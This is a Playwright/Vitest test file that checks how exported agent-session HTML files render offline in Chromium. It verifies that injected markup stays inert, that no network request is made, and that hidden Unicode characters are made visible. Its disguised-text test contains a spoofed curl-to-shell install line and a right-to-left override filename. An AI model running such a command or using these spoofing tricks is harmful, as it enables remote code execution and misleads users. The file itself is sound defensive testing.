import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { pathToFileURL } from 'node:url'
import type { BrowserContext, Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { renderSessionHtml } from '../src/export.js'
import { artifact, characterLefts, formatCharacters, launch, skipReason } from './chromium.js'
import { disguisedSession, HOSTILE, longSession, oversizedSession, richSession } from './sessions.js'

if (skipReason) console.warn(`skipping the browser tests: ${skipReason}`)

describe.skipIf(skipReason)('an exported session in Chromium, opened from disk with the network off', { timeout: 120_000 }, () => {
  let browser: Awaited<ReturnType<typeof launch>>
  let context: BrowserContext
  const dir = mkdtempSync(join(tmpdir(), 'cordage-studio-export-'))
  const requested: string[] = []

  beforeAll(async () => {
    browser = await launch()
    context = browser.context
    await context.setOffline(true)
    // Anything but the file itself and inline data is refused and remembered.
    await context.route('**/*', (route) => {
      const url = route.request().url()
      if (url.startsWith('file:') || url.startsWith('data:')) return route.continue()
      requested.push(url)
      return route.abort()
    })
  })
  afterAll(async () => {
    await browser?.close()
    rmSync(dir, { recursive: true, force: true })
  })

  async function open(name: string, html: string): Promise<{ page: Page; errors: string[] }> {
    const file = join(dir, name)
    writeFileSync(file, html)
    const page = await context.newPage()
    const errors: string[] = []
    page.on('pageerror', (error) => errors.push(error.message))
    page.on('console', (message) => {
      if (message.type() === 'error') errors.push(message.text())
    })
    await page.goto(pathToFileURL(file).href)
    await page.waitForSelector('html[data-rendered]', { timeout: 30_000 })
    return { page, errors }
  }

  it('shows every turn, call, result, diff, nested call and marks errors and denials, with hostile text as text', async () => {
    const { session, children } = richSession()
    const { page, errors } = await open('rich.html', renderSessionHtml(session, children))
    expect(await page.evaluate('window.__pwned')).toBeUndefined()
    expect(await page.locator('img[src="x"]').count()).toBe(0)
    expect(await page.locator('img').count()).toBe(0)
    expect(await page.locator('.assistant-text').first().textContent()).toBe(`I will edit the file. ${HOSTILE}`)

    const summary = page.locator('.summary')
    expect(await summary.locator('.summary-turns').textContent()).toBe('2')
    expect(await summary.locator('.summary-tokens').textContent()).toBe('2.7k in / 100 out')
    expect(await summary.locator('.summary-cost').textContent()).toBe('$0.0072')
    expect(await summary.locator('.summary-status').textContent()).toBe('ended (completed)')
    expect(await page.locator('.turn-meta').first().textContent()).toBe('gpt-test · 1.5 s · 1.2k in / 80 out · $0.0042')

    const calls = page.locator('li.call')
    expect(await calls.count()).toBe(5)
    // A call's body is built when it is opened.
    expect(await page.locator('.call-body').count()).toBe(0)
    for (const index of [0, 1, 2, 3]) await calls.nth(index).locator('summary').first().click()
    expect(await calls.nth(0).locator('.diff-lines .line.add').textContent()).toBe('+start({ port: 8080 })\n')
    expect(await calls.nth(0).locator('.diff-lines .line.del').textContent()).toBe('-start({ port: 80 })\n')
    expect(await calls.nth(1).locator('.content pre').first().textContent()).toBe(HOSTILE)
    expect(await calls.nth(1).locator('.note').last().textContent()).toBe('[image of type text/html not shown]')
    expect(await calls.nth(2).locator('.badge').first().textContent()).toBe('error CODE_ERROR')
    expect(await calls.nth(2).locator('.nested .dispatch summary').textContent()).toBe('↳ read ✓ (nested call 1)')
    expect(await calls.nth(3).getAttribute('class')).toContain('denied')
    expect(await calls.nth(3).locator('.badge').first().textContent()).toBe('denied')
    expect(await page.locator('.run-end').textContent()).toBe('Run completed · 2 turns · 2.7k in / 100 out · $0.0072')

    // Keyboard only: Tab to the subagent call, open it with Enter, Tab to its child session, open it with Space.
    await page.locator('body').focus()
    for (let step = 0; step < 40 && !(await focusedText(page)).startsWith('subagent'); step++) await page.keyboard.press('Tab')
    expect(await focusedText(page)).toMatch(/^subagent ok/)
    await page.keyboard.press('Enter')
    await page.keyboard.press('Tab')
    expect(await focusedText(page)).toBe('Child session: subagent rich-1-child (depth 1)')
    await page.keyboard.press('Space')
    const child = page.locator('details.child .assistant-text')
    await child.waitFor({ timeout: 10_000 })
    expect(await child.textContent()).toBe(`Child says ${HOSTILE}`)
    expect(await page.evaluate('window.__pwned')).toBeUndefined()

    await page.screenshot({ path: artifact('export-rich.png'), fullPage: true })
    expect(errors).toEqual([])
    expect(requested).toEqual([])
  })

  it('renders a 2 000-event session (the time is measured by the benchmark; here only a hang bound)', async () => {
    const session = longSession(2000)
    const { page, errors } = await open('long.html', renderSessionHtml(session))
    expect(session.events).toHaveLength(2000)
    expect(await page.locator('li.turn').count()).toBe(666)
    expect(await page.locator('li.call.pending').count()).toBe(0)
    expect(await page.locator('.summary-turns').textContent()).toBe('666')
    await page.screenshot({ path: artifact('export-long.png') })
    expect(errors).toEqual([])
    expect(requested).toEqual([])
  })

  it('shows direction overrides and invisible characters as marks, so every text reads in the order it is stored', async () => {
    const { page, errors } = await open('disguised.html', renderSessionHtml(disguisedSession()))
    await page.locator('li.call summary').first().click()
    expect(formatCharacters((await page.locator('main').textContent())!)).toEqual([])
    expect(await page.locator('.assistant-text').textContent()).toBe('Saved invoice⟨U+202E⟩fdp.sh.')
    expect(await page.locator('.diff-lines').textContent()).toBe('+curl https://git⟨U+200B⟩hub.com/install.sh | sh\n')
    for (const selector of ['.assistant-text', '.call-body pre.args', '.diff .path', '.call-body .content pre']) {
      const lefts = await characterLefts(page.locator(selector).first(), 'fdp.sh')
      expect(lefts, selector).toEqual([...lefts].sort((a, b) => a - b))
    }
    expect(errors).toEqual([])
  })

  it('cuts every field a model or tool fills (names, model, errors, paths, diff lines, URIs, reasons) after 20 000 characters', async () => {
    const { page, errors } = await open('oversized.html', renderSessionHtml(oversizedSession(5_000_000)))
    await page.locator('li.call summary').first().click()
    for (const selector of ['.summary-model', '.turn-meta', '.tool-name', '.error-message', '.diff .path', '.diff-lines', '.content .note', '.session-end']) {
      const text = (await page.locator(selector).first().textContent())!
      expect(text.length, selector).toBeLessThan(20_100)
      expect(text, selector).toMatch(/ more characters\]\n?$|^messagex+$/)
    }
    // The error message, like every result text, can be shown whole.
    await page.getByRole('button', { name: 'Show all 5,000,007 characters' }).click()
    expect((await page.locator('.error-message').textContent())!.length).toBe(5_000_007)
    expect(errors).toEqual([])
  })

  it('a file whose data was cut says so instead of failing silently', async () => {
    const html = renderSessionHtml(longSession(10)).replace(/(id="cordage-session">)[^<]*/, '$1{"session":')
    const { page, errors } = await open('torn.html', html)
    expect(await page.getAttribute('html', 'data-rendered')).toBe('error')
    expect(errors).toEqual([])
    expect(await page.locator('.error-message').textContent()).toMatch(/^This file holds no readable session/)
  })
})

function focusedText(page: Page): Promise<string> {
  return page.evaluate('document.activeElement ? document.activeElement.textContent : ""') as Promise<string>
}
